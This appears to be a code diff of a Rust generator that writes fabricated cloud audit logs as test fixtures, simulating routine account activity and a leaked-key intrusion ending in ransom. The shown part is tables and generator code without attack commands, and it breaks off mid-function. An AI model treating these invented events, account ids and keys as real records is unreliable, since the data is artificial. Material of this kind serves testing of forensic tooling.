@@ -3,6 +3,7 @@
 //! Usual work, a few careless acts, one dormant key, one night deployment, and one key
 //! that leaks and is used from the first probe to the ransom note. Every id is plainly
 //! fake and every public address is one for documentation, except GitHub's own.
+//! The story stands in `story.txt` and the tables below; the code only turns them into files.
 //!
 //! The program knows neither the clock nor chance: two runs write the same bytes.
 //! The first argument is the folder to write to; `README.md` in it is left as it is.
@@ -11,328 +12,160 @@ use std::fs;
 use std::io::Write;
 use std::path::{Path, PathBuf};
 
-use chrono::{DateTime, NaiveDate};
+use chrono::{DateTime, NaiveDateTime};
 use flate2::{Compression, GzBuilder};
 use serde_json::{Map, Value, json};
 
 /// The main account, which is also the uin of its root user.
-const ACCOUNT: &str = "100000000001";
+const ACCOUNT: u64 = 100_000_000_001;
 const APP_ID: u64 = 1_250_000_001;
 /// All local times of the story are this far east of UTC.
 const OFFSET_SECONDS: i64 = 8 * 3600;
+/// Since when records are shipped.
+const TRACKED_SINCE: &str = "2026-03-02 15:00:00";
+/// Where the console's export ends.
+const EXPORTED_UNTIL: &str = "2026-03-02 18:00:00";
+/// The last days of the shipped files.
+const SHIPPED_AT: [u32; 6] = [4, 6, 8, 10, 12, 15];
 
-/// Where the build machines leave the account's network.
-const NAT: &str = "203.0.113.10";
-const OFFICE: &str = "198.51.100.23";
-const ATTACKER: &str = "192.0.2.66";
-/// Lies in the range GitHub publishes for its hooks.
-const GITHUB: &str = "192.30.252.44";
+/// Who calls: handle, how they sign, uin, name, end of the key id, address, client.
+///
+/// `thief` and `github` use the key of `backend` from elsewhere; `crossfire` is the user
+/// the thief makes. `finance` reaches the console through a proxy.
+const CALLERS: &str = "
+root       root-key     100000000001 root          rootOwner   198.51.100.23  SDK_PYTHON_3.0.1459;_CLI_3.0.1459
+owner      root-console 100000000001 root          -           198.51.100.23  SDK_NODEJS_0.2.1
+billing    root-order   100000000001 root          -           -              -
+ci         user-key     100000000011 ci-deploy     ciDeploy    203.0.113.10   SDK_GO_1.0.1133
+backend    user-key     100000000012 app-backend   appBackend1 203.0.113.21   SDK_GO_1.0.1102
+backend2   user-key     100000000012 app-backend   appBackend2 203.0.113.21   SDK_GO_1.0.1102
+github     user-key     100000000012 app-backend   appBackend1 192.30.252.44  -
+thief      user-key     100000000012 app-backend   appBackend1 192.0.2.66     SDK_GO_1.0.938
+crossfire  user-key     100000000019 crossfire     crossfire   192.0.2.66     SDK_GO_1.0.938
+report     user-key     100000000013 report-export reportExp   203.0.113.44   SDK_PYTHON_3.0.988
+media      user-key     100000000014 media-team    mediaTeam   198.51.100.31  cosbrowser/2.11.2
+fleet      user-key     100000000015 fleet-sync    fleetSync   198.51.100.200 cloud-manager/3.2.0
+mobile     user-key     100000000016 mobile-api    mobileApi   203.0.113.22   SDK_JAVA_3.1.1210
+ops        user-console 100000000021 ops-lead      -           198.51.100.23  SDK_NODEJS_0.2.1
+dev        user-console 100000000022 dev-web       -           198.51.100.24  SDK_NODEJS_0.2.1
+finance    user-console 100000000023 finance-view  -           10.20.200.5    SDK_NODEJS_0.2.1
+intern     user-console 100000000024 intern-qa     -           198.51.100.27  SDK_NODEJS_0.2.1
+tke        service      4611686018400000001 TKE_QCSRole -      10.20.128.7    SDK_GO_1.0.594
+";
 
-const CONSOLE_CLIENT: &str = "SDK_NODEJS_0.2.1";
-const ATTACK_CLIENT: &str = "SDK_GO_1.0.938";
+/// Usual work: caller, first and last hour of it, calls on a working day and on a day of
+/// the weekend, first and last hour of a day, and the calls to choose from.
+const HABITS: &str = "
+ci       02T00 16T00 48  0  9 20 cvm:DescribeInstances cvm:DescribeImages tke:DescribeClusters tke:DescribeClusterNodePools cos:HeadBucket cos:GetBucket monitor:GetMonitorData tke:ModifyClusterNodePool tke:UpdateAddon cos:PutBucketTagging cvm:RebootInstances
+backend  02T00 11T09 34 22  0 24 cos:HeadBucket ssm:GetSecretValue cls:SearchLog redis:DescribeInstances cdb:DescribeDBInstances monitor:GetMonitorData
+backend2 11T10 16T00 34 22  0 24 cos:HeadBucket ssm:GetSecretValue cls:SearchLog redis:DescribeInstances cdb:DescribeDBInstances monitor:GetMonitorData
+mobile   09T09 16T00 10  6  7 23 cos:HeadBucket redis:DescribeInstances monitor:GetMonitorData
+tke      02T00 16T00 24 16  0 24 cvm:DescribeInstances vpc:DescribeSubnets vpc:DescribeNetworkInterfaces vpc:AssignPrivateIpAddresses cbs:AttachDisks clb:DescribeLoadBalancers clb:CreateLoadBalancer clb:DeleteLoadBalancer
+ops      02T00 16T00 16  2  9 19 cvm:DescribeInstances cam:ListUsers cam:GetPolicy clb:RegisterTargets clb:DescribeLoadBalancers monitor:CreateAlarmPolicy cbs:CreateSnapshot vpc:DescribeSecurityGroups cloudaudit:DescribeEvents
+dev      02T00 16T00 14  1 10 20 tke:DescribeClusters cls:SearchLog cdn:PurgePathCache scf:ListFunctions cdb:DescribeDBInstances cvm:RebootInstances
+finance  02T00 16T00  5  0  9 18 billing:DescribeBillSummaryByProduct billing:DescribeAccountBalance
+intern   04T15 16T00  6  0 10 19 tke:DescribeClusters cls:SearchLog monitor:GetMonitorData
+media    03T09 06T00  8  0 10 18 cos:GetService cos:HeadBucket cos:GetBucketCORS cos:PutBucketTagging
+fleet    09T09 11T00 12  0  9 18 cvm:DescribeInstances cbs:DescribeDisks clb:DescribeLoadBalancers
+";
+
+/// What else happens; how its lines are written is told in the file.
+const STORY: &str = include_str!("story.txt");
+
+/// Ways a call can fail: mark, code of the permission check, code of the service, words.
+const FAILURES: [(&str, &str, &str, &str); 4] = [
+    ("not-authorized", "4101", "AuthFailure.UnauthorizedOperation", "you are not authorized"),
+    ("not-granted", "0", "UnauthorizedOperation.CamNoAuth", "not authorized by CAM"),
+    ("no-such-key", "4104", "AuthFailure.SecretIdNotFound", "the SecretId is not found"),
+    ("sold-out", "0", "ResourceInsufficient.SpecifiedInstanceType", "the type is sold out"),
+];
+
+/// What the account owns, as a console would export it.
+const ASSETS: &str = "\
+ID,名称,公网IP,内网IP,备注
+nat-demo0001,nat-build,203.0.113.10,,CI 出口
+ins-demo0001,web-1,203.0.113.21,10.20.1.21,应用后端
+ins-demo0002,web-2,203.0.113.22,10.20.1.22,移动端接口
+ins-demo0003,web-3,203.0.113.23,10.20.1.23,
+ins-demo0004,queue-1,,10.20.1.31,消息队列
+ins-demo0005,report-1,203.0.113.44,10.20.2.44,报表
+ins-demo0006,bastion,203.0.113.50,10.20.0.50,堡垒机
+lb-demo0001,shop-front,203.0.113.80,,
+lb-demo0002,shop-api,203.0.113.81|2001:db8:20::81,,接口入口
+cdb-demo0001,shop-db,,10.20.3.10,主数据库
+crs-demo0001,shop-cache,,10.20.3.20,
+cls-demo0001,shop-tke,203.0.113.90,,TKE 集群入口
+";
+
+/// Users on the first morning: uin, name, made, end of the key id, its status, made and
+/// last used, attached policies with their ids. The first is the main account, which is no listed user.
+const USERS: &str = "
+100000000001 root           2024-03-28T12:00:00 rootOwner   Active   2024-03-28T12:05:00 2026-02-24T10:20:00 -
+100000000011 ci-deploy      2024-04-02T10:00:00 ciDeploy    Active   2025-09-01T10:12:00 2026-03-01T17:58:20 31:QcloudCVMFullAccess,32:QcloudTKEFullAccess,33:QcloudCLBFullAccess
+100000000012 app-backend    2024-04-02T10:05:00 appBackend1 Active   2025-02-11T09:30:00 2026-03-01T23:51:05 34:QcloudCamFullAccess,35:QcloudCVMReadOnlyAccess
+100000000013 report-export  2024-05-20T15:00:00 reportExp   Active   2024-05-20T15:01:10 2026-01-10T11:05:40 36:QCloudFinanceReadOnlyAccess
+100000000014 media-team     2025-01-15T11:00:00 mediaTeam   Active   2025-01-15T11:00:30 2026-02-27T16:40:00 -
+100000000015 fleet-sync     2025-06-03T09:00:00 fleetSync   Active   2025-06-03T09:00:20 2026-02-28T09:15:00 35:QcloudCVMReadOnlyAccess
+100000000016 mobile-api     2026-02-25T10:00:00 -           -        -                   -                   -
+100000000017 old-contractor 2024-07-01T09:00:00 contractor  Inactive 2024-07-01T09:10:00 2025-06-30T18:02:00 -
+100000000021 ops-lead       2024-04-01T09:00:00 -           -        -                   -                   1:AdministratorAccess
+100000000022 dev-web        2024-08-12T09:00:00 -           -        -                   -                   -
+100000000023 finance-view   2024-09-02T09:00:00 -           -        -                   -                   -
+";
 
 fn main() {
     let folder = match std::env::args_os().nth(1) {
         Some(folder) => PathBuf::from(folder),
         None => Path::new(option_env!("CARGO_MANIFEST_DIR").unwrap_or(".")).join("fixtures/demo"),
     };
-    let mut story = Story::new();
-    usual_work(&mut story);
-    root_console(&mut story);
-    billing_orders(&mut story);
-    denied_builds(&mut story);
-    test_machines(&mut story);
-    new_colleague(&mut story);
-    night_deployment(&mut story);
-    careless_root(&mut story);
-    dormant_key(&mut story);
-    leak_is_confirmed(&mut story);
-    attack_recon(&mut story);
-    attack_guessing(&mut story);
-    attack_takeover(&mut story);
-    attack_foothold(&mut story);
-    attack_ransom(&mut story);
-    response(&mut story);
-    story.events.sort_by_key(|event| event.at);
-
+    let mut random = Random(0x00ab_cdef);
+    let events = all_events(&mut random);
     let logs = folder.join("logs");
-    let shipped = write_shipped(&logs.join("cos"), &mut story);
-    let fetched = write_fetched(&logs.join("tccli/describe-events-root.json"), &story.events);
-    let exported = write_exported(&logs.join("console/operation-records.csv"), &story.events);
-    write_assets(&folder.join("assets.csv"));
+    write_shipped(&logs.join("cos"), &events, &mut random);
+    write_fetched(&logs.join("tccli/describe-events-root.json"), &events);
+    write_exported(&logs.join("console/operation-records.csv"), &events);
+    write_file(&folder.join("assets.csv"), ASSETS.as_bytes());
     write_inventory(&folder.join("inventory"));
-    let events = story.events.len();
-    println!("{events} events: {shipped} shipped, {fetched} fetched, {exported} exported");
+    let told = writeln!(std::io::stdout(), "{} events in {}", events.len(), folder.display());
+    told.expect("the terminal takes a line");
 }
 
-// ---------------------------------------------------------------- who calls
-
-/// How a caller signs.
-#[derive(Clone, Copy, PartialEq, Eq)]
-enum Kind {
-    RootKey,
-    RootConsole,
-    /// The account itself, acting for an order; such records have no key and no address.
-    RootOrder,
-    UserKey,
-    UserConsole,
-    Service,
+/// The lines of a table, without blank ones and comments.
+fn rows(table: &'static str) -> impl Iterator<Item = &'static str> {
+    let lines = table.lines();
+    lines.filter(|line| !line.is_empty() && !line.starts_with('#'))
 }
 
-impl Kind {
-    fn is_root(self) -> bool {
-        matches!(self, Self::RootKey | Self::RootConsole | Self::RootOrder)
-    }
-
-    fn is_console(self) -> bool {
-        matches!(self, Self::RootConsole | Self::UserConsole)
-    }
+/// The words of a row, of which the first are told apart; `-` stands for nothing.
+fn words<const N: usize>(row: &'static str) -> ([&'static str; N], Vec<&'static str>) {
+    let mut all = row.split_whitespace();
+    let first = [(); N].map(|()| all.next().expect("every column is filled"));
+    let first = first.map(|word| if word == "-" { "" } else { word });
+    (first, all.collect())
 }
 
-/// Somebody who calls, and how their calls usually look.
-struct Caller {
-    kind: Kind,
-    uin: &'static str,
-    name: &'static str,
-    /// What the key ends with.
-    key: &'static str,
-    ip: &'static str,
-    client: &'static str,
+// ---------------------------------------------------------------- time and chance
+
+/// Reads a local time and returns seconds of the epoch.
+fn time(text: &str) -> i64 {
+    let text = text.replace('T', " ");
+    let parsed = NaiveDateTime::parse_from_str(&text, "%Y-%m-%d %H:%M:%S");
+    let naive = parsed.expect("written as YYYY-MM-DD HH:MM:SS");
+    naive.and_utc().timestamp() - OFFSET_SECONDS
 }
 
-impl Caller {
-    const fn user(
-        uin: &'static str,
-        name: &'static str,
-        key: &'static str,
-        ip: &'static str,
-        client: &'static str,
-    ) -> Self {
-        let kind = Kind::UserKey;
-        Self {
-            kind,
-            uin,
-            name,
-            key,
-            ip,
-            client,
-        }
-    }
-
-    const fn console(uin: &'static str, name: &'static str, ip: &'static str) -> Self {
-        let (kind, key, client) = (Kind::UserConsole, "", CONSOLE_CLIENT);
-        Self {
-            kind,
-            uin,
-            name,
-            key,
-            ip,
-            client,
-        }
-    }
-
-    const fn root(kind: Kind, ip: &'static str, client: &'static str) -> Self {
-        let (uin, name, key) = (ACCOUNT, "root", "rootOwner");
-        Self {
-            kind,
-            uin,
-            name,
-            key,
-            ip,
-            client,
-        }
-    }
-
-    /// The key id the caller signs with at a time: 36 characters, or 68 for a session of a day.
-    fn key_at(&self, at: i64) -> String {
-        match self.kind {
-            Kind::RootKey | Kind::UserKey => permanent_key(self.key),
-            Kind::RootOrder => String::new(),
-            Kind::RootConsole | Kind::UserConsole | Kind::Service => {
-                let owner = self.name.replace(['-', '_'], "");
-                let end = format!("{owner}{}", local(at, "%m%d"));
-                format!("AKIDEXAMPLEtemporary{end:0>48}")
-            }
-        }
-    }
+fn time_in_march(day: u32, clock: &str) -> i64 {
+    time(&format!("2026-03-{day:02} {clock}"))
 }
 
-fn permanent_key(end: &str) -> String {
-    format!("AKIDEXAMPLE{end:0>25}")
+fn local(at: i64, format: &str) -> String {
+    let shifted = DateTime::from_timestamp(at + OFFSET_SECONDS, 0).expect("a time of the story");
+    shifted.format(format).to_string()
 }
 
-static ROOT: Caller = Caller::root(Kind::RootKey, OFFICE, "SDK_PYTHON_3.0.1459; _CLI_3.0.1459");
-static ROOT_CONSOLE: Caller = Caller::root(Kind::RootConsole, OFFICE, CONSOLE_CLIENT);
-static ROOT_ORDER: Caller = Caller::root(Kind::RootOrder, "", "");
-static CI: Caller = Caller::user(
-    "100000000011",
-    "ci-deploy",
-    "ciDeploy",
-    NAT,
-    "SDK_GO_1.0.1133",
-);
-static BACKEND: Caller = Caller::user(
-    "100000000012",
-    "app-backend",
-    "appBackend1",
-    "203.0.113.21",
-    "SDK_GO_1.0.1102",
-);
-/// The same user with the key made after the attack.
-static BACKEND_2: Caller = Caller::user(
-    "100000000012",
-    "app-backend",
-    "appBackend2",
-    "203.0.113.21",
-    "SDK_GO_1.0.1102",
-);
-static REPORT: Caller = Caller::user(
-    "100000000013",
-    "report-export",
-    "reportExp",
-    "203.0.113.44",
-    "SDK_PYTHON_3.0.988",
-);
-static MEDIA: Caller = Caller::user(
-    "100000000014",
-    "media-team",
-    "mediaTeam",
-    "198.51.100.31",
-    "cosbrowser/2.11.2",
-);
-static FLEET: Caller = Caller::user(
-    "100000000015",
-    "fleet-sync",
-    "fleetSync",
-    "198.51.100.200",
-    "cloud-manager/3.2.0",
-);
-static MOBILE: Caller = Caller::user(
-    "100000000016",
-    "mobile-api",
-    "mobileApi",
-    "203.0.113.22",
-    "SDK_JAVA_3.1.1210",
-);
-/// The user the attacker makes, with the key that comes with it.
-static CROSSFIRE: Caller = Caller::user(
-    "100000000019",
-    "crossfire",
-    "crossfire",
-    ATTACKER,
-    ATTACK_CLIENT,
-);
-static OPS: Caller = Caller::console("100000000021", "ops-lead", OFFICE);
-static DEV: Caller = Caller::console("100000000022", "dev-web", "198.51.100.24");
-/// Reaches the console through a proxy, so that only the session knows the address.
-static FINANCE: Caller = Caller::console("100000000023", "finance-view", "10.20.200.5");
-static INTERN: Caller = Caller::console("100000000024", "intern-qa", "198.51.100.27");
-static TKE: Caller = Caller {
-    kind: Kind::Service,
-    uin: "4611686018400000001",
-    name: "TKE_QCSRole",
-    key: "",
-    ip: "10.20.128.7",
-    client: "SDK_GO_1.0.594",
-};
-
-// ---------------------------------------------------------------- what is called
-
-/// Why a call failed: the code of the permission check, that of the service, and its words.
-struct Failure {
-    auth: &'static str,
-    code: &'static str,
-    message: &'static str,
-}
-
-static NOT_AUTHORIZED: Failure = Failure {
-    auth: "4101",
-    code: "AuthFailure.UnauthorizedOperation",
-    message: "you are not authorized to perform this operation",
-};
-static NOT_GRANTED: Failure = Failure {
-    auth: "0",
-    code: "UnauthorizedOperation.CamNoAuth",
-    message: "CAM signature or authentication error",
-};
-static NO_SUCH_KEY: Failure = Failure {
-    auth: "4104",
-    code: "AuthFailure.SecretIdNotFound",
-    message: "the SecretId is not found",
-};
-static SOLD_OUT: Failure = Failure {
-    auth: "0",
-    code: "ResourceInsufficient.SpecifiedInstanceType",
-    message: "the specified instance type is sold out",
-};
-
-/// Where a record can be read besides the shipped files, and in what state.
-#[derive(Clone, Copy, PartialEq, Eq)]
-enum State {
-    Usual,
-    /// Not shipped: an order of the billing system.
-    Order,
-    /// Not shipped: the platform's own copy of a call.
-    Platform,
-    /// Not shipped, and the inner record is no valid JSON.
-    Broken,
-    /// Shipped, but the line is cut.
-    Cut,
-}
-
-/// One call.
-struct Event {
-    at: i64,
-    caller: &'static Caller,
-    service: &'static str,
-    action: &'static str,
-    region: &'static str,
-    ip: &'static str,
-    client: &'static str,
-    params: Value,
-    reply: Value,
-    failure: Option<&'static Failure>,
-    id: String,
-    state: State,
-}
-
-impl Event {
-    fn region(&mut self, region: &'static str) -> &mut Self {
-        self.region = region;
-        self
-    }
-
-    fn params(&mut self, params: Value) -> &mut Self {
-        self.params = params;
-        self
-    }
-
-    fn reply(&mut self, reply: Value) -> &mut Self {
-        self.reply = reply;
-        self
-    }
-
-    fn failed(&mut self, failure: &'static Failure) -> &mut Self {
-        self.failure = Some(failure);
-        self
-    }
-
-    fn state(&mut self, state: State) -> &mut Self {
-        self.state = state;
-        self
-    }
-
-    fn is_read(&self) -> bool {
-        const READS: [&str; 7] = [
-            "Describe", "Get", "List", "Query", "Check", "Search", "Head",
-        ];
-        READS.iter().any(|start| self.action.starts_with(start))
-    }
-
-    fn is_shipped(&self) -> bool {
-        let tracked = self.at >= time(2, "15:00:00");
-        tracked && matches!(self.state, State::Usual | State::Cut)
-    }
+fn number<T: std::str::FromStr>(text: &str) -> T {
+    let parsed = text.parse().ok();
+    parsed.expect("the column holds a number")
 }
 
 /// Splitmix64: small, and the same everywhere.
@@ -347,638 +180,228 @@ impl Random {
         mixed ^ (mixed >> 31)
     }
 
-    fn below(&mut self, end: usize) -> usize {
-        let end = u64::try_from(end).expect("lengths fit into 64 bits");
-        usize::try_from(self.next() % end).expect("the rest is below a usize")
+    fn below(&mut self, end: u64) -> u64 {
+        self.next() % end
     }
 
-    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
-        from[self.below(from.len())]
+    fn index(&mut self, length: usize) -> usize {
+        let length = u64::try_from(length).expect("lengths fit into 64 bits");
+        usize::try_from(self.below(length)).expect("an index below the length")
     }
 
     fn uuid(&mut self) -> String {
         let hex = format!("{:016x}{:016x}", self.next(), self.next());
-        let (a, b, c) = (&hex[..8], &hex[8..12], &hex[13..16]);
-        format!("{a}-{b}-4{c}-8{}-{}", &hex[17..20], &hex[20..])
+        let (first, second, third) = (&hex[..8], &hex[8..12], &hex[13..16]);
+        format!("{first}-{second}-4{third}-8{}-{}", &hex[17..20], &hex[20..])
     }
 }
 
-/// All calls so far, in the order they were thought of.
-struct Story {
-    random: Random,
-    events: Vec<Event>,
+// ---------------------------------------------------------------- callers and calls
+
+/// Somebody who calls, and how their calls look.
+struct Caller {
+    handle: &'static str,
+    /// How they sign: `root-key`, `user-console` and so on.
+    kind: &'static str,
+    uin: &'static str,
+    name: &'static str,
+    key: &'static str,
+    ip: &'static str,
+    client: &'static str,
 }
 
-impl Story {
-    fn new() -> Self {
-        Self {
-            random: Random(0x00ab_cdef),
-            events: Vec::new(),
+impl Caller {
+    fn of(row: &'static str) -> Self {
+        let ([handle, kind, uin, name, key, ip, client], _) = words(row);
+        Self { handle, kind, uin, name, key, ip, client }
+    }
+
+    fn is_root(&self) -> bool {
+        self.kind.starts_with("root")
+    }
+
+    fn is_console(&self) -> bool {
+        self.kind.ends_with("console")
+    }
+
+    fn is_service(&self) -> bool {
+        self.kind == "service"
+    }
+
+    /// The key id at a time: 36 characters, 68 for a session of a day, none for an order.
+    fn key_at(&self, at: i64) -> String {
+        if self.is_console() || self.is_service() {
+            let owner = self.name.replace(['-', '_'], "");
+            let end = format!("{owner}{}", local(at, "%m%d"));
+            format!("AKIDEXAMPLEtemporary{end:0>48}")
+        } else if self.key.is_empty() {
+            String::new()
+        } else {
+            permanent_key(self.key)
         }
     }
+}
 
-    /// Adds a call of `service:Action`; what is unusual about it is set on the returned event.
-    fn call(&mut self, at: i64, caller: &'static Caller, api: &'static str) -> &mut Event {
+fn permanent_key(end: &str) -> String {
+    format!("AKIDEXAMPLE{end:0>25}")
+}
+
+/// One call.
+struct Event {
+    at: i64,
+    caller: &'static Caller,
+    service: &'static str,
+    action: &'static str,
+    region: &'static str,
+    /// A way to fail, or `order` and `platform` (not shipped), `broken` (not shipped, and the
+    /// inner record is no valid JSON), `cut` (the shipped line is cut).
+    mark: &'static str,
+    params: Value,
+    reply: Value,
+    id: String,
+}
+
+impl Event {
+    fn new(at: i64, caller: &'static Caller, api: &'static str, random: &mut Random) -> Self {
         let (service, action) = api.split_once(':').expect("written as service:Action");
-        let event = Event {
+        Self {
             at,
             caller,
             service,
             action,
             region: "ap-guangzhou",
-            ip: caller.ip,
-            client: caller.client,
+            mark: "",
             params: json!({"Limit": 20, "Offset": 0}),
             reply: json!({}),
-            failure: None,
-            id: self.random.uuid(),
-            state: State::Usual,
-        };
-        self.events.push(event);
-        self.events.last_mut().expect("one was just added")
+            id: random.uuid(),
+        }
     }
 
-    /// Adds a call from the attacker's machine.
-    fn attack(&mut self, clock: &str, caller: &'static Caller, api: &'static str) -> &mut Event {
-        let event = self.call(time(11, clock), caller, api);
-        event.ip = ATTACKER;
-        event.client = ATTACK_CLIENT;
-        event
+    fn is_read(&self) -> bool {
+        const READS: [&str; 5] = ["Describe", "Get", "List", "Search", "Head"];
+        READS.iter().any(|start| self.action.starts_with(start))
+    }
+
+    fn is_shipped(&self) -> bool {
+        self.at >= time(TRACKED_SINCE) && !["order", "platform", "broken"].contains(&self.mark)
+    }
+
+    /// Returns the codes of the permission check and of the service, and the service's words.
+    fn outcome(&self) -> (&'static str, &'static str, &'static str) {
+        let failure = FAILURES.iter().find(|failure| failure.0 == self.mark);
+        failure.map_or(("0", "0", ""), |failure| (failure.1, failure.2, failure.3))
     }
 }
 
-/// Returns a local time of March 2026 in seconds of the epoch.
-fn time(day: u32, clock: &str) -> i64 {
-    let date = NaiveDate::from_ymd_opt(2026, 3, day).expect("a day of March");
-    let naive = format!("{date} {clock}");
-    let parsed = chrono::NaiveDateTime::parse_from_str(&naive, "%Y-%m-%d %H:%M:%S");
-    parsed
-        .expect("a time written as HH:MM:SS")
-        .and_utc()
-        .timestamp()
-        - OFFSET_SECONDS
+fn all_events(random: &mut Random) -> Vec<Event> {
+    let callers: &'static [Caller] = rows(CALLERS).map(Caller::of).collect::<Vec<_>>().leak();
+    let mut events = Vec::new();
+    for row in rows(HABITS) {
+        usual_work(row, callers, random, &mut events);
+    }
+    // A file that was still being written when it was copied.
+    let from = time("2026-03-06 15:00:00");
+    let is_cut = |event: &&mut Event| event.caller.handle == "ci" && event.at > from;
+    let cut = events.iter_mut().find(is_cut);
+    cut.expect("builds run on Friday").mark = "cut";
+    events.extend(rows(STORY).map(|row| told_event(row, callers, random)));
+    events.sort_by_key(|event| event.at);
+    events
 }
 
-fn local(at: i64, format: &str) -> String {
-    let shifted = DateTime::from_timestamp(at + OFFSET_SECONDS, 0).expect("a time of the story");
-    shifted.format(format).to_string()
+fn caller_of(callers: &'static [Caller], handle: &str) -> &'static Caller {
+    let caller = callers.iter().find(|caller| caller.handle == handle);
+    caller.expect("every handle is in the table of callers")
 }
 
-// ---------------------------------------------------------------- usual work
-
-/// What somebody does day by day.
-struct Habit {
-    caller: &'static Caller,
-    /// First and last time: day of March and hour.
-    span: [(u32, u32); 2],
-    /// Calls on a working day and on a day of the weekend.
-    calls: [usize; 2],
-    /// First hour of the day, and the first that is too late.
-    hours: [usize; 2],
-    apis: &'static [&'static str],
-}
-
-const WHOLE: [(u32, u32); 2] = [(2, 0), (15, 23)];
-
-static HABITS: [Habit; 11] = [
-    Habit {
-        caller: &CI,
-        span: WHOLE,
-        calls: [48, 0],
-        hours: [9, 20],
-        apis: &[
-            "cvm:DescribeInstances",
-            "cvm:DescribeImages",
-            "tke:DescribeClusters",
-            "tke:DescribeClusterInstances",
-            "tke:DescribeClusterNodePools",
-            "cos:HeadBucket",
-            "cos:GetBucket",
-            "monitor:GetMonitorData",
-            "tke:ModifyClusterNodePool",
-            "tke:UpdateAddon",
-            "cos:PutBucketTagging",
-            "cvm:RebootInstances",
-        ],
-    },
-    Habit {
-        caller: &BACKEND,
-        span: [(2, 0), (11, 9)],
-        calls: [34, 22],
-        hours: [0, 24],
-        apis: BACKEND_APIS,
-    },
-    Habit {
-        caller: &BACKEND_2,
-        span: [(11, 10), (15, 23)],
-        calls: [34, 22],
-        hours: [0, 24],
-        apis: BACKEND_APIS,
-    },
-    Habit {
-        caller: &MOBILE,
-        span: [(9, 9), (15, 23)],
-        calls: [10, 6],
-        hours: [7, 23],
-        apis: &[
-            "cos:HeadBucket",
-            "redis:DescribeInstances",
-            "monitor:GetMonitorData",
-        ],
-    },
-    Habit {
-        caller: &TKE,
-        span: WHOLE,
-        calls: [24, 16],
-        hours: [0, 24],
-        apis: &[
-            "cvm:DescribeInstances",
-            "vpc:DescribeSubnets",
-            "vpc:DescribeNetworkInterfaces",
-            "vpc:AssignPrivateIpAddresses",
-            "cbs:AttachDisks",
-            "clb:DescribeLoadBalancers",
-            "clb:CreateLoadBalancer",
-            "clb:DeleteLoadBalancer",
-        ],
-    },
-    Habit {
-        caller: &OPS,
-        span: WHOLE,
-        calls: [16, 2],
-        hours: [9, 19],
-        apis: &[
-            "cvm:DescribeInstances",
-            "cam:ListUsers",
-            "cam:GetPolicy",
-            "clb:RegisterTargets",
-            "clb:DescribeLoadBalancers",
-            "monitor:CreateAlarmPolicy",
-            "cbs:CreateSnapshot",
-            "vpc:DescribeSecurityGroups",
-            "cloudaudit:DescribeEvents",
-        ],
-    },
-    Habit {
-        caller: &DEV,
-        span: WHOLE,
-        calls: [14, 1],
-        hours: [10, 20],
-        apis: &[
-            "tke:DescribeClusters",
-            "cls:SearchLog",
-            "cdn:PurgePathCache",
-            "scf:ListFunctions",
-            "cdb:DescribeDBInstances",
-            "cvm:RebootInstances",
-        ],
-    },
-    Habit {
-        caller: &FINANCE,
-        span: WHOLE,
-        calls: [5, 0],
-        hours: [9, 18],
-        apis: &[
-            "billing:DescribeBillSummaryByProduct",
-            "billing:DescribeAccountBalance",
-        ],
-    },
-    Habit {
-        caller: &INTERN,
-        span: [(4, 15), (15, 23)],
-        calls: [6, 0],
-        hours: [10, 19],
-        apis: &[
-            "tke:DescribeClusters",
-            "cls:SearchLog",
-            "monitor:GetMonitorData",
-        ],
-    },
-    Habit {
-        caller: &MEDIA,
-        span: [(3, 9), (5, 23)],
-        calls: [8, 0],
-        hours: [10, 18],
-        apis: &[
-            "cos:GetService",
-            "cos:HeadBucket",
-            "cos:GetBucketCORS",
-            "cos:PutBucketTagging",
-        ],
-    },
-    Habit {
-        caller: &FLEET,
-        span: [(9, 9), (10, 20)],
-        calls: [12, 0],
-        hours: [9, 18],
-        apis: &[
-            "cvm:DescribeInstances",
-            "cbs:DescribeDisks",
-            "clb:DescribeLoadBalancers",
-        ],
-    },
-];
-
-static BACKEND_APIS: &[&str] = &[
-    "cos:HeadBucket",
-    "ssm:GetSecretValue",
-    "cls:SearchLog",
-    "redis:DescribeInstances",
-    "cdb:DescribeDBInstances",
-    "monitor:GetMonitorData",
-];
-
-fn usual_work(story: &mut Story) {
-    for habit in &HABITS {
-        let [first, last] = habit
-            .span
-            .map(|(day, hour)| time(day, &format!("{hour:02}:00:00")));
-        for day in 2..=15 {
-            let weekend = matches!(day, 7 | 8 | 14 | 15);
-            for _ in 0..habit.calls[usize::from(weekend)] {
-                let hour = habit.hours[0] + story.random.below(habit.hours[1] - habit.hours[0]);
-                let [minute, second] = [60, 60].map(|end| story.random.below(end));
-                let at = time(day, &format!("{hour:02}:{minute:02}:{second:02}"));
-                if (first..last).contains(&at) {
-                    usual_call(story, habit, at);
-                }
+/// Adds what somebody does day by day, at times that chance gives.
+fn usual_work(row: &'static str, callers: &'static [Caller], random: &mut Random, events: &mut Vec<Event>) {
+    let ([handle, first, last, working, weekend, opens, closes], apis) = words(row);
+    let [first, last] = [first, last].map(|text| time(&format!("2026-03-{text}:00:00")));
+    let opens: u64 = number(opens);
+    let hours = number::<u64>(closes) - opens;
+    for day in 2..=15 {
+        let is_weekend = matches!(day, 7 | 8 | 14 | 15);
+        for _ in 0..number(if is_weekend { weekend } else { working }) {
+            let (hour, minute) = (opens + random.below(hours), random.below(60));
+            let clock = format!("{hour:02}:{minute:02}:{:02}", random.below(60));
+            let at = time_in_march(day, &clock);
+            if (first..last).contains(&at) {
+                let api = apis[random.index(apis.len())];
+                events.push(usual_event(at, caller_of(callers, handle), api, random));
             }
         }
     }
-    // A file that was still being written when it was copied.
-    let cut = story.events.iter_mut().find(|event| {
-        event.caller.name == "ci-deploy" && event.is_read() && event.at > time(6, "15:00:00")
-    });
-    cut.expect("builds run on Friday").state = State::Cut;
 }
 
-fn usual_call(story: &mut Story, habit: &Habit, at: i64) {
-    let api = story.random.pick(habit.apis);
-    let number = story.random.below(4) + 1;
-    let regions = [
-        "ap-guangzhou",
-        "ap-guangzhou",
-        "ap-guangzhou",
-        "ap-shanghai",
-    ];
-    let region = story.random.pick(&regions);
-    let event = story.call(at, habit.caller, api).region(region);
-    let params = match (event.service, event.is_read()) {
+/// Makes a call of usual work, which differs a little from the last.
+fn usual_event(at: i64, caller: &'static Caller, api: &'static str, random: &mut Random) -> Event {
+    let mut event = Event::new(at, caller, api, random);
+    let number = random.below(4) + 1;
+    if random.below(4) == 0 {
+        event.region = "ap-shanghai";
+    }
+    event.params = match (event.service, event.is_read()) {
         ("cos", _) => json!({"Bucket": format!("site-assets-{APP_ID}")}),
         (_, true) => json!({"Limit": 20, "Offset": 20 * (number - 1)}),
